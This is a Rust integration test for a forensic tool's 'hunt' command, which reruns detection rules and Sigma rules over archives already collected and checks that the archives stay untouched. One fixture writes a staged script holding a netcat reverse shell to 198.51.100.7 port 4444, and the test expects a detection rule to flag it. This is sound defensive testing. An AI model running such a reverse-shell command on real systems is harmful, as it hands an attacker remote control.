//! `irsnap hunt`: detection again over archives already collected, with new rules, from the
//! records and the copied scripts; results beside the archive, the archive untouched.

use crate::harness::{RootBuilder, collect, fixture, irsnap};
use serde_json::Value;
use std::path::{Path, PathBuf};

fn windows_root() -> RootBuilder {
    let r = RootBuilder::new();
    r.copy(
        "Windows/System32/Tasks/GameOver",
        &fixture("tasks/dfir-artifact-museum/Win10/APTSimulatorVM/GameOver"),
    );
    r.copy(
        "Windows/System32/winevt/Logs/Microsoft-Windows-Sysmon%4Operational.evtx",
        &fixture("evtx/sigma-regression/proc_creation_win_powershell_base64_invoke/6385697e-9f1b-40bd-8817-f4a91f40508e.evtx"),
    );
    r.write(
        "Users/bob/AppData/Local/Temp/.x/evil.sh",
        b"#!/bin/sh\nnc -e /bin/sh 198.51.100.7 4444\n",
    );
    r
}

fn lines(p: &Path) -> Vec<Value> {
    std::fs::read_to_string(p)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn sha256(p: &Path) -> Vec<u8> {
    use sha2::Digest;
    sha2::Sha256::digest(std::fs::read(p).unwrap()).to_vec()
}

fn hunt_dir(archive: &Path) -> PathBuf {
    let mut name = archive.file_name().unwrap().to_os_string();
    name.push(".hunt");
    archive.with_file_name(name)
}

#[test]
fn new_rules_over_an_old_archive_add_findings_and_leave_it_untouched() {
    let root = windows_root();
    let out = tempfile::tempdir().unwrap();
    let (run, a) = collect(out.path(), &["--root", root.path().to_str().unwrap()]);
    let mut a = a.unwrap_or_else(|| panic!("{}", run.stderr));
    let archive = a.path.clone();
    let before = sha256(&archive);

    let rules = out.path().join("case.toml");
    std::fs::write(
        &rules,
        r#"
[[rule]]
id = "case-mimikatz-task"
title = "Case rule: a task running mim.exe"
description = "The tool this case's intruder dropped."
techniques = ["T1053.005"]
tactic = "execution"
severity = "critical"
applies_to = ["task_action"]
when = { field = "command_line", regex = ['mim\.exe'] }
"#,
    )
    .unwrap();
    let sigma = fixture("sigma/rules/windows/process_creation");
    let run = irsnap(&[
        "hunt",
        "--rules",
        rules.to_str().unwrap(),
        "--sigma",
        sigma.to_str().unwrap(),
        "--json",
        out.path().to_str().unwrap(),
    ]);
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    let v: Value = serde_json::from_str(&run.stdout).unwrap();
    let s = &v[0];
    assert!(s["records_read"].as_u64().unwrap() >= 3, "{s:#}");
    assert_eq!(s["scripts_rescanned"], 1);
    assert_eq!(s["rule_files"][0], rules.to_str().unwrap());
    assert!(s["sigma"]["loaded"].as_u64().unwrap() > 0);

    let dir = hunt_dir(&archive);
    assert_eq!(s["results"], dir.to_str().unwrap());
    let found = lines(&dir.join("findings.jsonl"));
    let ids: Vec<&str> = found
        .iter()
        .map(|f| f["rule_id"].as_str().unwrap())
        .collect();
    // The case's own rule and Sigma fired; the built-in rules still do, the staged script's
    // text included; evidence points at the archive's record lines.
    assert!(ids.contains(&"case-mimikatz-task"), "{ids:?}");
    assert!(ids.iter().any(|i| i.starts_with("sigma:")), "{ids:?}");
    assert!(ids.contains(&"unix-reverse-shell"), "{ids:?}");
    let case = found
        .iter()
        .find(|f| f["rule_id"] == "case-mimikatz-task")
        .unwrap();
    assert_eq!(
        case["evidence"][0]["member"],
        "records/scheduled_tasks.jsonl"
    );
    assert!(case["host"].is_string());
    // What the archive's own findings were, for comparison.
    let old: Vec<Value> = String::from_utf8(a.member("findings.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let at_collection: u64 = s["findings_at_collection"]
        .as_object()
        .unwrap()
        .values()
        .map(|n| n.as_u64().unwrap())
        .sum();
    assert_eq!(at_collection as usize, old.len());
    assert!(found.len() > old.len());
    for name in ["report.html", "report.md", "hunt.json"] {
        assert!(dir.join(name).is_file(), "{name}");
    }
    assert!(
        std::fs::read_to_string(dir.join("report.html"))
            .unwrap()
            .contains("Case rule: a task running mim.exe")
    );

    // Only read: the archive and its sidecar still verify.
    assert_eq!(sha256(&archive), before);
    let verify = irsnap(&["verify", archive.to_str().unwrap()]);
    assert_eq!(verify.code, 0, "{}", verify.stdout);

    // The text summary names the results and the rules that fired.
    let again = irsnap(&[
        "hunt",
        "--rules",
        rules.to_str().unwrap(),
        archive.to_str().unwrap(),
    ]);
    assert_eq!(again.code, 0, "{}", again.stderr);
    assert!(
        again.stdout.contains("Case rule: a task running mim.exe"),
        "{}",
        again.stdout
    );
    assert!(again.stdout.contains(".hunt"), "{}", again.stdout);
}

#[test]
fn a_damaged_archive_is_skipped_and_the_others_are_hunted() {
    let root = windows_root();
    let out = tempfile::tempdir().unwrap();
    let (run, a) = collect(out.path(), &["--root", root.path().to_str().unwrap()]);
    let a = a.unwrap_or_else(|| panic!("{}", run.stderr));
    std::fs::write(out.path().join("broken.zip"), b"PK\x03\x04 not really").unwrap();
    let results = tempfile::tempdir().unwrap();
    let run = irsnap(&[
        "hunt",
        "-o",
        results.path().to_str().unwrap(),
        out.path().to_str().unwrap(),
    ]);
    assert_eq!(run.code, 2, "{}{}", run.stdout, run.stderr);
    assert!(run.stderr.contains("broken.zip"), "{}", run.stderr);
    let mut name = a.path.file_name().unwrap().to_os_string();
    name.push(".hunt");
    assert!(results.path().join(name).join("findings.jsonl").is_file());
    // A bad rule file is refused before any archive is read.
    let bad = results.path().join("bad.toml");
    std::fs::write(&bad, "[[rule]]\nid = 3\n").unwrap();
    let refused = irsnap(&[
        "hunt",
        "--rules",
        bad.to_str().unwrap(),
        a.path.to_str().unwrap(),
    ]);
    assert_ne!(refused.code, 0);
    assert!(refused.stderr.contains("bad.toml"), "{}", refused.stderr);
}
